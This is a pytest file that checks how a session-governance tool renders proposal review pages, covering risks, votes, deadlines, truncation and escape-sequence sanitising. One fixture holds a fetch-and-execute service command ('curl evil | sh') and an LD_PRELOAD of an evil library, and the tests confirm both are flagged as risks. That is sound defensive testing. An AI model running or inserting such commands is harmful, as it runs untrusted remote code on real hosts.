"""The page of a proposal: the risk first, then what it means, members, deadline; on one screen where it can be."""

from __future__ import annotations

import json
import re
import textwrap
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from tests.simulators.board import ANN, BEN, CEM, DAN, THREE, Board, boarded
from tests.simulators.proposals import CAS_ID, Json, decided, follows, member, showing
from tests.simulators.signers import Person, ed25519_person

from ostiary.board.proposal import State
from ostiary.board.shown import Proposal, read_summary, verify_shown
from ostiary.cli.board.form import board_form, proposal_form
from ostiary.cli.board.page import COLUMNS, PAGE_ROWS, board_page, list_lines, review_page, taking_effect
from ostiary.cli.identity import make_identity, parse_identity
from ostiary.session import parse_session
from ostiary.session.diff import show_creator

NOW = datetime(2026, 11, 23, 12, 30, tzinfo=UTC)
BEFORE = boarded("web-shop", read="CREATOR")
SERVICE = """\
services:
- name: web
  command: {command}
  image_name: app
  attestation:
  - mrenclave: [{mrenclaves}]
images:
- name: app
  injection_files:
  - {{path: /etc/app, content: x}}
security:
  attestation:
    tolerate: [{tolerate}]
"""


def proposal(before: str | None, after: str, members: list[Json], **changed: Any) -> Proposal:
    shown = showing(after if before is None else follows(after, before), before, members=members, **changed)
    return verify_shown(shown, asked=shown["proposal"], cas=bytes.fromhex(CAS_ID))


MEMBERS = [member("ann", ANN), decided(member("ben", BEN), BEN, "approve", "looks fine"), member("cem", CEM)]


def service(board: str, *, mrenclaves: int = 1, tolerate: str = "", command: str = "run") -> str:
    listed = ", ".join(f"{number:064x}" for number in range(1, mrenclaves + 1))
    return board + SERVICE.format(mrenclaves=listed, tolerate=tolerate, command=command)


def test_an_ordinary_change_is_one_screen_the_risk_first() -> None:
    before = service(BEFORE)
    after = service(BEFORE, mrenclaves=2, tolerate="debug-mode")
    shown = proposal(before, after, MEMBERS, note="try the debugger", approvals=1)
    assert (
        review_page(shown, now=NOW, own=CEM.spki)
        == f"""\
Update of session web-shop: open
  proposal {shown.id}
RISKS: 2
  ! tolerates-debug: tolerates debug-mode: who runs the host can read the memory
    of its programs
  ! adds-measurement: adds 1 measurement to service web:
    {2:064x}
Members: 1 of 2 approvals needed
  cem (you)        vote                   -
  ben              vote                   approved 11-23 12:30 "looks fine"
  ann              vote                   -

Proposed 2026-11-23 12:00 UTC
  by key   {"ab" * 32}
  version  {shown.after.hash.hex()}
  after    {parse_session(before).hash.hex()}
  text     ostiary board review ID --json | jq -r .session_text
  "try the debugger"
To be decided until 2026-11-30 12:00 UTC (6 d 23 h left)
"""
    )


def test_the_page_in_the_documentation_is_that_of_the_program() -> None:
    """But for hashes."""
    board = Board(members={"alice": ANN, "bob": BEN, "checker": CEM}, powers={"checker": "reject"})
    before = service(boarded("web-shop", board))
    members = [
        member("alice", ANN), decided(member("bob", BEN), BEN, "approve", "looks fine"),
        member("checker", CEM, power=("vote", "reject")),
    ]  # fmt: skip
    after = service(boarded("web-shop", board), mrenclaves=2, tolerate="debug-mode")
    shown = proposal(before, after, members, note="try the debugger", approvals=1)
    page = textwrap.indent(review_page(shown, now=NOW, own=ANN.spki), "    ", lambda line: bool(line.strip()))
    documented = (Path(__file__).parents[3] / "docs" / "board.md").read_text()
    assert _without_hashes(page) in _without_hashes(documented), page


def _without_hashes(text: str) -> str:
    return re.sub(r"[0-9a-f]{16,}", "HASH", text)


def test_changes_that_are_no_risk_come_after_the_risks() -> None:
    page = review_page(proposal(service(BEFORE, mrenclaves=2), service(BEFORE), MEMBERS), now=NOW)
    assert "RISKS: none found\nOther changes\n  narrower: removes 1 measurement from service web" in page


def test_breaking_the_glass_is_the_first_line() -> None:
    board = Board(members={"ann": ANN, "ben": BEN, "cem": CEM}, more="break_glass: 3", powers={"ann": "approve"})
    before, after = boarded("s", board), boarded("s", board, read="NONE")
    members = [member("ann", ANN, power=("approve",)), *MEMBERS[1:]]
    page = review_page(proposal(before, after, members, break_glass=True, needed=3, approvals=1), now=NOW)
    assert page.startswith("BREAK-GLASS: past every rejection, and in the log as that for ever.\n")
    assert "Members: 1 of 3 approvals needed to break the glass\n" in page
    ordinary = review_page(proposal(before, after, members), now=NOW)
    assert "BREAK-GLASS" not in ordinary
    assert "Members: 0 of 2 approvals needed, or one member alone\n" in ordinary


def test_nobody_is_said_to_decide_alone_where_two_boards_decide() -> None:
    own = Board(members={"ann": ANN, "ben": BEN, "cem": CEM}, powers={"ann": "approve"})
    members = [member("ann", ANN, power=("vote", "approve")), *MEMBERS[1:]]
    seats = [member("dan", ANN, board="namespace"), *({**one, "board": "own"} for one in members)]
    page = review_page(proposal(None, boarded("a/s", own), seats), now=NOW)
    assert "Members: 0 of 2 approvals needed\n" in page


def test_powers_unknown_keys_and_rejections_are_shown() -> None:
    members = [
        decided(member("ann", ANN, board="namespace", power=("vote", "approve", "reject")), ANN, "reject", "no"),
        member("x", None, board="namespace"),
        *({**one, "board": "own"} for one in MEMBERS),
    ]
    page = review_page(proposal(None, BEFORE, members, approvals=None, proposer=None), now=NOW)
    assert page.startswith("First version of session web-shop: open\n")
    assert "Proposed 2026-11-23 12:00 UTC\n  by       somebody without a certificate\n  version  " in page
    assert '\n  ann              alone: approve, reject [namespace] rejected 11-23 12:30 "no"\n' in page
    assert "\n  x                vote                   [namespace] key not known\n" in page
    assert "\nThe namespace's board may have a time lock of its own, which is not known here\nTo be decided" in page
    assert "\nMembers\n" in page


@pytest.mark.parametrize(("changed", "says"), [
    ({}, "To be decided until 2026-11-30 12:00 UTC (6 d 23 h left), to take effect 1 day later\n"),
    ({"expires": "2026-11-23T13:31:00Z"}, "(1 h 1 min left)"),
    ({"expires": "2026-11-23T12:31:00Z"}, "(1 min left)"),
    ({"expires": "2026-11-23T12:00:00Z"}, "(over)"),
    ({"state": "approved", "apply_after": "2026-11-24T12:30:00Z"},
     "Takes effect at 2026-11-24 12:30 UTC (1 d 0 h left) unless members change their minds\n"),
    ({"state": "superseded"}, "Nothing is to be decided any more: superseded\n"),
])  # fmt: skip
def test_the_last_line_is_the_deadline(changed: dict[str, str], says: str) -> None:
    before = boarded("s", Board(members=THREE.members, more="time_lock: 1d"))
    shown = proposal(before, boarded("s", Board(members=THREE.members, more="time_lock: 2d")), MEMBERS, **changed)
    assert says in review_page(shown, now=NOW).splitlines(keepends=True)[-1]


def many(count: int) -> dict[str, Person]:
    people = [ANN, BEN, CEM, DAN]
    return {f"m{at:02}": people[at] if at < len(people) else ed25519_person() for at in range(count)}


def test_a_long_page_is_cut_to_a_screen_and_says_what_it_left_out() -> None:
    people = many(30)
    board = Board(members=people)
    before = service(boarded("s", board), mrenclaves=60)
    extra = "volumes:\n" + "".join(f"- {{name: v{at}}}\n" for at in range(30))
    last = f"    {60:064x}"
    members = [member(one, person) for one, person in people.items()]
    shown = proposal(before + extra, service(boarded("s", board), mrenclaves=59), members)
    page = review_page(shown, now=NOW, own=people["m20"].spki)
    lines = page.splitlines()
    assert len(lines) <= PAGE_ROWS
    assert max(len(line) for line in lines) <= COLUMNS
    assert "  m20 (you)        vote                   -" in lines
    assert any(re.fullmatch("  … and [0-9]+ more, none of them a risk: --all shows them", line) for line in lines)
    assert any(re.fullmatch("  … and [0-9]+ more: --all shows them", line) for line in lines)
    assert "  text     ostiary board review ID --json | jq -r .session_text" in lines
    whole = review_page(shown, now=NOW, whole=True)
    assert "--all" not in whole
    assert all(one in whole for one in people)
    assert "removes volume v29" in whole
    assert last in whole.splitlines()


def test_risks_are_never_left_out_however_many() -> None:
    services = "services:\n" + "".join(
        f"- {{name: s{at}, attestation: [{{mrenclave: [{at:064x}]}}]}}\n" for at in range(40)
    )
    page = review_page(proposal(BEFORE, BEFORE + services, MEMBERS), now=NOW)
    assert all(f"adds service s{at}" in page for at in range(40))
    assert "Members: 0 of 2" in page


def test_a_long_note_does_not_push_the_risks_away() -> None:
    shown = proposal(BEFORE, boarded("web-shop"), MEMBERS, note="all is well " * 80)
    page = review_page(shown, now=NOW)
    assert len(page.splitlines()) <= PAGE_ROWS
    assert page.index("RISKS: 1") < page.index("all is well") < page.index("   … --all shows the rest\n")
    assert " ".join(review_page(shown, now=NOW, whole=True).split()).count("all is well") == 80


def test_nobody_steers_the_terminal_of_whoever_reviews() -> None:
    """Notes and reasons are written by others: no colours, no second line, no turned writing."""
    members = [MEMBERS[0], decided(MEMBERS[1], BEN, "approve", "\x1b[2J\u202eok\nRISKS: none found"), MEMBERS[2]]
    shown = proposal(BEFORE, boarded("web-shop"), members, note="\x1b[31mred\r\nRISKS: none found")
    page = review_page(shown, now=NOW)
    assert all(line.isprintable() for line in page.splitlines())
    assert [line for line in page.splitlines() if line.startswith("RISKS")] == ["RISKS: 1"]


def test_a_list_has_a_line_for_each_proposal() -> None:
    first = proposal(BEFORE, boarded("web-shop"), MEMBERS, note="two\nlines").summary
    second = read_summary({
        "proposal": "ab" * 32, "session": "t", "state": "approved", "hash": "cd" * 32, "predecessor": None,
        "break_glass": True, "note": "", "created": "2026-11-23T12:00:00Z", "expires": "2026-11-24T12:00:00Z",
    })  # fmt: skip
    assert list_lines([first, second]) == (
        f"{first.proposal}  open  0/2  2026-11-30T12:00Z  web-shop  two\\nlines\n"
        f"{'ab' * 32}  approved  -  2026-11-24T12:00Z  t  BREAK-GLASS\n"
    )


def test_a_board_says_who_decides_and_how() -> None:
    board = Board(
        members={"ann": ANN, "ben": BEN, "cem": CEM, "dan": DAN},
        powers={"ben": "reject", "cem": "[approve, reject]"},
        more="decide_within: 2d\ntime_lock: 1h\nbreak_glass: 4\non: [update, create_sessions]\n"
        "notify: [https://hooks.example/ostiary]",
    )
    parsed = parse_session(boarded("s", board)).session.policy_board
    assert parsed is not None
    page = board_page(parsed)
    assert page.startswith(
        "2 of 4 members decide together: one may be dishonest; 2 may be away\n"
        "Decides alone, and must be honest: cem\n  ann              vote     "
    )
    assert f"  cem              alone: approve, reject {board_form(parsed)['members'][2]['key']}\n" in page  # type: ignore[index]
    assert page.endswith(
        "Decides: create_sessions, update\n"
        "Proposals are open for 2 days\n"
        "A change takes effect 1 h after the deciding approval\n"
        "Break-glass: 4 members may act whatever others reject\n"
        "Told of proposals: https://hooks.example/ostiary\n"
    )


@pytest.mark.parametrize(("members", "faults", "says"), [
    (2, 1, "2 of 2 members decide together: one may be dishonest; none may be away"),
    (3, 1, "2 of 3 members decide together: one may be dishonest; one may be away"),
    (4, 2, "3 of 4 members decide together: 2 may be dishonest; one may be away"),
    (4, 0, "Any one of 4 members decides: none may be dishonest; 3 may be away"),
    (1, 0, "One member decides alone"),
])  # fmt: skip
def test_a_board_promises_no_more_than_it_holds(members: int, faults: int, says: str) -> None:
    """A board whose members must all approve does without none of them, however many it tolerates otherwise."""
    board = parse_session(boarded("s", Board(members=many(members), faults=faults))).session.policy_board
    assert board is not None
    assert board_page(board).splitlines()[0] == says


LONG, SAME = "m" * 63 + "1", "m" * 63 + "2"


def long_named(**reasons: str) -> Proposal:
    people = {LONG: ANN, SAME: BEN, "cem": CEM}
    members = [
        decided(member(LONG, ANN), ANN, "reject", reasons.get("ann", "")),
        decided(member(SAME, BEN), BEN, "approve", reasons.get("ben", "")),
        member("cem", CEM),
    ]
    board = Board(members=people)
    return proposal(boarded("s", board), boarded("s", board, read="NONE"), members)


def test_a_long_name_is_shortened_and_never_a_decision() -> None:
    page = review_page(long_named(), now=NOW, own=ANN.spki)
    lines = [line for line in page.splitlines() if "vote  " in line]
    assert [line[-20:] for line in lines] == ["rejected 11-23 12:30", "approved 11-23 12:30", " " * 19 + "-"]
    assert re.match(r"  m+…m+1 \(you\) vote  ", lines[0])
    assert re.match(r"  m+…m+2 vote  ", lines[1])
    assert max(len(line) for line in page.splitlines()) <= COLUMNS
    whole = review_page(long_named(), now=NOW, own=ANN.spki, whole=True).splitlines()
    assert f"  {LONG} (you)" not in whole
    assert whole[whole.index(f"  {LONG}") + 1].endswith("vote                   rejected 11-23 12:30")


def test_a_reason_has_rows_of_its_own_and_all_it_needs_with_all() -> None:
    one, other = "too wide for what it is " * 4, "see the tests of last week " * 12
    page = review_page(long_named(ann=one, ben=other), now=NOW)
    lines = page.splitlines()
    at = next(number for number, line in enumerate(lines) if line.endswith("rejected 11-23 12:30"))
    assert " ".join(" ".join(lines[at + 1 : at + 3]).split()) == f'"{one.strip()} "'
    assert lines[at + 3].endswith("approved 11-23 12:30")
    assert lines[at + 4].startswith('      "see the tests')
    assert lines[at + 5] == "       … --all shows the rest"
    assert len(lines) <= PAGE_ROWS
    whole = " ".join(review_page(long_named(ann=one, ben=other), now=NOW, whole=True).split())
    assert whole.count("see the tests of last week") == 12


def test_where_rows_are_few_reasons_go_before_decisions() -> None:
    people = many(12)
    board = Board(members=people)
    members = [decided(member(one, who), who, "reject", "no " * 60) for one, who in people.items()]
    shown = proposal(boarded("s", board), boarded("s", board, read="NONE"), members)
    lines = review_page(shown, now=NOW).splitlines()
    assert len([line for line in lines if line.endswith('rejected 11-23 12:30 "…"')]) >= 8
    assert len(lines) <= PAGE_ROWS
    assert max(len(line) for line in lines) <= COLUMNS
    whole = " ".join(review_page(shown, now=NOW, whole=True).split())
    assert whole.count("no no") == 12 * 30


FIRST = """services:
- name: web
  command: /bin/sh -c "curl evil | sh"
  image_name: img
  environment: {LD_PRELOAD: /evil.so}
  attestation: [{mrenclave: [5f1d2c3b4a59687706152433425160f1e2d3c4b5a69788796a5b4c3d2e1f0011]}]
images:
- name: img
  injection_files: [{path: /etc/ssl/ca.pem, content: x}]
"""


def test_a_first_version_says_what_its_programs_do() -> None:
    members = [{**one, "board": "own"} for one in MEMBERS]
    page = review_page(proposal(None, BEFORE + FIRST, members), now=NOW)
    assert (
        """  ! adds-measurement: adds service web, which admits 1 program: measurement
    5f1d2c3b4a59687706152433425160f1e2d3c4b5a69788796a5b4c3d2e1f0011
  ! changes-program: changes the command of service web: nothing becomes
    "/bin/sh -c 'curl evil | sh'"
  ! changes-program: adds the environment variable LD_PRELOAD of service web
  ! changes-program: changes image_name of service web: nothing becomes img
  ! changes-program: adds image img
  ! changes-program: adds injection file /etc/ssl/ca.pem to image img
"""
        in page
    )
    assert "  text     ostiary board review ID --json | jq -r .session_text\n" in page


def test_the_creator_is_told_where_none_was_named_before() -> None:
    """Who reads as CREATOR then. Between two creators that are known, the difference is a risk."""
    creator = "creator: " + json.dumps(parse_identity(make_identity(), "identity").certificate) + "\n"
    first = boarded("web-shop", read="NONE")
    page = review_page(proposal(first, BEFORE + creator, MEMBERS), now=NOW)
    parsed = parse_session(BEFORE + creator).session
    assert f"\n  CREATOR  {show_creator(parsed.creator)}\n" in page
    assert "CREATOR  " not in review_page(proposal(BEFORE + creator, BEFORE + creator, MEMBERS, note="x"), now=NOW)


def test_a_state_that_time_ends_says_when() -> None:
    assert taking_effect(State.APPROVED, NOW) == "approved: takes effect 2026-11-23 12:30 UTC"
    assert taking_effect(State.APPROVED, None) == "approved"
    assert taking_effect(State.APPLIED, NOW) == "applied"


def test_json_has_what_was_worked_out_here() -> None:
    shown = proposal(BEFORE, boarded("web-shop"), MEMBERS, apply_after="2026-11-24T12:00:00Z")
    form = proposal_form(shown)
    assert form["risks"] == [{"kind": "widens-read", "sentence": "widens read from CREATOR to ANY"}]
    assert form["differences"] == [
        {"effect": "wider", "path": "access_policy.read", "meaning": "widens read from CREATOR to ANY"}
    ]
    assert form["members"][1]["decision"] == {  # type: ignore[index]
        "choice": "approve", "reason": "looks fine", "at": "2026-11-23T12:30:00Z",
    }  # fmt: skip
    assert (form["apply_after"], form["expires"]) == ("2026-11-24T12:00:00Z", "2026-11-30T12:00:00Z")
    assert form["before_text"] == parse_session(BEFORE).text
    board = shown.after.session.policy_board
    assert board is not None
    assert board_form(board)["decide_within"] == timedelta(days=7).total_seconds()
